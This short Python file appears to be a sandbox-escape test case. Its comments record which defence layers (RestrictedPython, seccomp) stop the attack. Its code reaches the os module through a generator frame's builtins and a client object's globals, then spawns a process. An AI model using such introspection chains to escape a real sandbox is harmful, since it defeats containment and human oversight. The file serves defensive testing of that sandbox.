# attack: generator/coroutine/traceback frames
# stops: restrictedpython: "f_builtins" is a restricted name
# os: process/seccomp: Operation not permitted
# baseline: -restrictedpython => escaped
# f_builtins of a generator's frame
def g():
    yield 1
client = g().gi_frame.f_builtins["Directory"].__self__.client
os = client.call.__globals__["frames"].os
print("ESCAPED", os.posix_spawn("/bin/true", ["true"], {}))
